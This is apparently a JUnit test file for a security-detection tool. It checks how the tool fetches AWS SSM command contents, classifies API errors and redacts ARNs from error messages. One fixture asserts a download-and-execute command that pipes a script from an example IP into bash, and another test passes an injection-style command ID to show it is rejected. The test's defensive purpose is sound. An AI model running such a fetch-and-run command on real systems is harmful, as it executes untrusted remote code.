package io.runwatch.aws.ssm;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.runwatch.aws.testing.AwsWireMock;
import io.runwatch.core.model.Operation;
import io.runwatch.core.port.CommandContentSource.Availability;
import io.runwatch.core.port.CommandContentSource.CommandContent;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.ssm.SsmClient;

class SsmCommandContentSourceTest {
  private static final String TARGET = "AmazonSSM.ListCommands";
  private static final String DENIED =
      "{\"__type\":\"AccessDeniedException\",\"Message\":\"User: arn:aws:sts::111122223333:"
          + "assumed-role/runwatch-detect/fn is not authorized to perform: ssm:ListCommands\"}";

  private WireMockServer server;

  @BeforeEach
  void start() {
    server = new WireMockServer(options().dynamicPort());
    server.start();
  }

  @AfterEach
  void stop() {
    server.stop();
  }

  private void answer(int status, String body) {
    server.stubFor(
        post(urlEqualTo("/"))
            .withHeader("X-Amz-Target", equalTo(TARGET))
            .willReturn(
                aResponse()
                    .withStatus(status)
                    .withHeader("Content-Type", "application/x-amz-json-1.1")
                    .withBody(body)));
  }

  private CommandContent fetch(int maxAttempts) {
    return new SsmCommandContentSource(SsmFixtures.clients(server, maxAttempts))
        .fetch(SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, "us-east-1"));
  }

  private List<LoggedRequest> sent() {
    return server.findAll(postRequestedFor(anyUrl()));
  }

  @Test
  void readsTheShellScriptLinesOfASendCommand() {
    answer(200, SsmFixtures.json("list-commands-run-shell-script.json"));

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.KNOWN);
    assertThat(c.document()).isEqualTo("AWS-RunShellScript");
    assertThat(c.text()).isEqualTo("#!/bin/bash\ncurl -s http://203.0.113.9/db.sh | bash");
    assertThat(c.parameters())
        .containsEntry("executionTimeout", List.of("3600"))
        .containsEntry(
            "commands", List.of("#!/bin/bash", "curl -s http://203.0.113.9/db.sh | bash"));
    assertThat(c.detail()).isNull();

    assertThat(sent()).hasSize(1);
    LoggedRequest r = sent().get(0);
    assertThat(r.getHeader("X-Amz-Target")).isEqualTo(TARGET);
    assertThat(r.getHeader("Content-Type")).startsWith("application/x-amz-json-1.1");
    assertThat(r.getBodyAsString())
        .satisfies(
            body ->
                assertThat(
                        equalToJson("{\"CommandId\":\"" + SsmFixtures.COMMAND_ID + "\"}")
                            .match(body)
                            .isExactMatch())
                    .as("body %s", body)
                    .isTrue());
    AwsWireMock.assertSigned(r, "ssm");
  }

  @Test
  void readsCommandLineAndSourceOfARemoteScript() {
    answer(200, SsmFixtures.json("list-commands-run-remote-script.json"));

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.KNOWN);
    assertThat(c.document()).isEqualTo("AWS-RunRemoteScript");
    assertThat(c.text())
        .isEqualTo(
            "restart.sh orders-worker\n"
                + "{\"path\":\"https://s3.amazonaws.com/amzn-s3-demo-bucket/scripts/restart.sh\"}");
    assertThat(c.parameters()).containsEntry("sourceType", List.of("S3"));
  }

  @Test
  void anEmptyListIsNotFound() {
    answer(200, SsmFixtures.json("list-commands-empty.json"));

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.NOT_FOUND);
    assertThat(c.text()).isNull();
    assertThat(c.detail()).contains("ssm:ListCommands").contains(SsmFixtures.COMMAND_ID);
  }

  @Test
  void anInvalidCommandIdIsNotFound() {
    answer(400, "{\"__type\":\"InvalidCommandId\",\"Message\":\"\"}");

    assertThat(fetch(1).availability()).isEqualTo(Availability.NOT_FOUND);
  }

  @Test
  void accessDeniedIsDeniedAndTheDetailHoldsNoArn() {
    answer(400, DENIED);

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.DENIED);
    assertThat(c.detail())
        .isEqualTo("ssm:ListCommands failed: AccessDeniedException (HTTP 400)")
        .doesNotContain("arn:");
  }

  @Test
  void throttlingAfterTheSdkRetriesIsThrottled() {
    answer(400, "{\"__type\":\"ThrottlingException\",\"message\":\"Rate exceeded\"}");

    CommandContent c = fetch(3);

    assertThat(c.availability()).isEqualTo(Availability.THROTTLED);
    assertThat(sent()).as("the SDK retried").hasSize(3);
    sent().forEach(r -> AwsWireMock.assertSigned(r, "ssm"));
  }

  @Test
  void aServerErrorIsAnErrorNamingTheStatus() {
    answer(500, "{\"__type\":\"InternalServerError\",\"Message\":\"internal\"}");

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.ERROR);
    assertThat(c.detail()).isEqualTo("ssm:ListCommands failed: InternalServerError (HTTP 500)");
  }

  @Test
  void aConnectionFailureIsAnErrorWithoutTheAddress() {
    server.stop();

    CommandContent c = fetch(1);

    assertThat(c.availability()).isEqualTo(Availability.ERROR);
    assertThat(c.detail()).startsWith("ssm:ListCommands failed: ").doesNotContain("localhost");
  }

  @Test
  void commandsWithoutAnSsmCommandIdAreUnsupportedAndSendNothing() {
    SsmCommandContentSource source = new SsmCommandContentSource(SsmFixtures.clients(server, 1));

    CommandContent session =
        source.fetch(
            SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, "us-east-1").toBuilder()
                .operation(Operation.START_SESSION)
                .build());
    CommandContent noId = source.fetch(SsmFixtures.sendCommand(null, "us-east-1"));
    CommandContent notUuid = source.fetch(SsmFixtures.sendCommand("abc\"}", "us-east-1"));

    assertThat(List.of(session, noId, notUuid))
        .extracting(CommandContent::availability)
        .containsOnly(Availability.UNSUPPORTED);
    assertThat(sent()).isEmpty();
  }

  @Test
  void asksTheCommandsOwnRegionWithOneClientPerRegion() {
    answer(200, SsmFixtures.json("list-commands-run-shell-script.json"));
    List<String> built = new ArrayList<>();
    RegionalClients<SsmClient> clients =
        new RegionalClients<>(
            "us-east-1",
            region -> {
              built.add(region);
              return SsmClient.builder()
                  .endpointOverride(URI.create(server.baseUrl()))
                  .region(Region.of(region))
                  .credentialsProvider(
                      StaticCredentialsProvider.create(
                          AwsBasicCredentials.create(
                              AwsWireMock.ACCESS_KEY, AwsWireMock.SECRET_KEY)))
                  .httpClientBuilder(UrlConnectionHttpClient.builder())
                  .build();
            });
    SsmCommandContentSource source = new SsmCommandContentSource(clients);

    source.fetch(SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, "eu-west-1"));
    source.fetch(SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, "eu-west-1"));
    source.fetch(SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, null));
    CommandContent bad = source.fetch(SsmFixtures.sendCommand(SsmFixtures.COMMAND_ID, "Mars/1"));

    assertThat(built).containsExactly("eu-west-1", "us-east-1");
    assertThat(bad.availability()).isEqualTo(Availability.ERROR);
    assertThat(sent())
        .extracting(r -> r.getHeader("Authorization").contains("/eu-west-1/ssm/aws4_request"))
        .containsExactly(true, true, false);
    assertThat(clients.built()).isEqualTo(2);
  }
}
